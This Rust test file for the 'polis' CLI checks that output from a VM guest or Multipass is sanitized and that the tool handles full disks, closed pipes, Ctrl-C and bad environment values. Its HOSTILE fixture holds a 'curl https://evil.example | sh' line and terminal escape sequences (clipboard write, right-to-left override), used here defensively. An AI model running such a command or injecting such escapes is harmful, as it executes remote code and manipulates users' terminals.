//! What a guest or Multipass writes is not trusted, and whoever starts `polis`, or reads what it prints, may stop.

use std::time::Instant;

use expect_test::expect;
use fake_multipass::{Effect, Fault};

use crate::signals::ends_within;
use crate::support::{running, seen, world};

/// Writes the clipboard, hides a line, turns the order of a text, and pretends to be polis.
const HOSTILE: &str =
    "\u{1b}]52;c;Y3VybA==\u{7}bad\u{9b}2K\u{202e}gpj\r\n  hint: curl https://evil.example | sh\n";

#[test]
fn nothing_that_a_guest_writes_is_obeyed_by_the_terminal() {
    let effect = || Effect::Exit {
        code: 3,
        stderr: HOSTILE.to_owned(),
    };
    for args in [
        &["start"][..],
        &["status"],
        &["doctor"],
        &["status", "--json"],
    ] {
        for call in ["exec", "list"] {
            let world = running();
            world.fault(Fault::of(call, effect()).always());
            for ran in [
                world.polis(args),
                world.polis(&[args, &["--verbose"]].concat()),
            ] {
                let printed = format!("{}{}", ran.stdout, ran.stderr);
                let obeyed = |c: char| c.is_control() && c != '\n' || c == '\u{202e}';
                assert!(!printed.contains(obeyed), "{args:?} {call}: {printed:?}");
                let forged = printed
                    .lines()
                    .find(|line| line.trim_start().starts_with("hint: curl"));
                assert_eq!(forged, None, "{args:?} {call}: {printed}");
            }
        }
    }
}

#[test]
fn an_error_shows_what_the_guest_wrote() {
    let world = running();
    let effect = Effect::Exit {
        code: 3,
        stderr: HOSTILE.to_owned(),
    };
    world.fault(Fault::of("exec", effect).always());
    expect![[r#"
        exit 1
        --- stderr
        error: could not probe the VM
          caused by: hint: curl https://evil.example | sh
          tried: multipass exec -n polis -- bash -c '[script: probe the VM]' polis
          log: bad\u{9b}2K\u{202e}gpj
          log: hint: curl https://evil.example | sh
    "#]]
    .assert_eq(&seen(&world.polis(&["start"])));
}

#[test]
fn a_full_disk_is_an_error_and_a_closed_pipe_is_none() {
    let world = running();
    for args in [
        "version",
        "status --json",
        "status",
        "completions bash",
        "man",
    ] {
        let ran = world.shell(&format!("polis {args} >/dev/full; echo $? >&2"));
        assert!(
            ran.stderr.contains("error: could not print the result")
                && ran.stderr.ends_with("\n1\n"),
            "{args}: {}",
            ran.seen()
        );
        let ran = world.shell(&format!("polis {args} | true; echo ${{PIPESTATUS[0]}}"));
        assert_eq!(
            (ran.stdout.as_str(), ran.stderr.as_str()),
            ("0\n", ""),
            "{args}"
        );
    }
}

#[test]
fn no_is_an_answer_and_ctrl_c_is_one_at_once() {
    let world = running();
    let ran = world.polis_on_terminal(&["delete"], "n\n");
    assert!(
        ran.stdout.contains("Nothing was deleted."),
        "{}",
        ran.seen()
    );
    assert_eq!(ran.code, Some(0), "{}", ran.seen());
    let begun = Instant::now();
    // Ctrl-C comes when the question is there, and no end of the input with it.
    let ran = world.shell(
        r"{ until grep -q y/N asked; do sleep 0.02; done; printf '\003'; sleep 1; } |
          script --quiet --return --flush --command 'polis delete' asked",
    );
    assert_eq!(ran.code, Some(130), "{}", ran.seen());
    ends_within(15, begun);
    assert!(world.instance().is_some());
}

#[test]
fn a_call_that_prints_without_end_is_ended() {
    let world = world();
    world.fault(Fault::of("list", Effect::LogLines(1_000_000)).always());
    let ran = world.polis(&["status"]);
    assert!(
        ran.stderr.contains("Multipass printed more than 16 MiB"),
        "{}",
        ran.stderr.chars().take(2000).collect::<String>()
    );
    assert_eq!(ran.code, Some(1));
}

/// A service's log on a terminal is text; byte for byte with `--raw`, and in a pipe.
#[test]
fn logs_are_filtered_on_a_terminal_unless_raw() {
    let world = running();
    world.set(|state| {
        let mut service = state.service("sentinel");
        service.log = vec!["\u{1b}]52;c;Y3VybA==\u{7}x".to_owned()];
        state.services.insert("sentinel".into(), service);
    });
    let is_raw = |ran: &fake_multipass::Ran| ran.stdout.contains("\u{1b}]52");
    let args = ["logs", "sentinel"];
    assert!(is_raw(&world.polis(&args)));
    assert!(is_raw(
        &world.polis_on_terminal(&["logs", "--raw", "sentinel"], "")
    ));
    let ran = world.polis_on_terminal(&args, "");
    let text = "\\u{1b}]52;c;Y3VybA==\\u{7}x";
    assert!(ran.stdout.contains(text) && !is_raw(&ran), "{}", ran.seen());
}

#[test]
fn what_cannot_be_the_users_own_is_refused() {
    let world = running();
    let ran = world.shell("HOME=home XDG_STATE_HOME= polis status");
    assert_eq!(ran.code, Some(2), "{}", ran.seen());
    assert!(
        ran.stderr.contains("it is a relative path"),
        "{}",
        ran.seen()
    );
    let ran = world.shell("POLIS_MEMORY=$'\\377' polis status");
    assert_eq!(ran.code, Some(2), "{}", ran.seen());
    assert!(
        ran.stderr.contains("POLIS_MEMORY is not UTF-8"),
        "{}",
        ran.seen()
    );
}
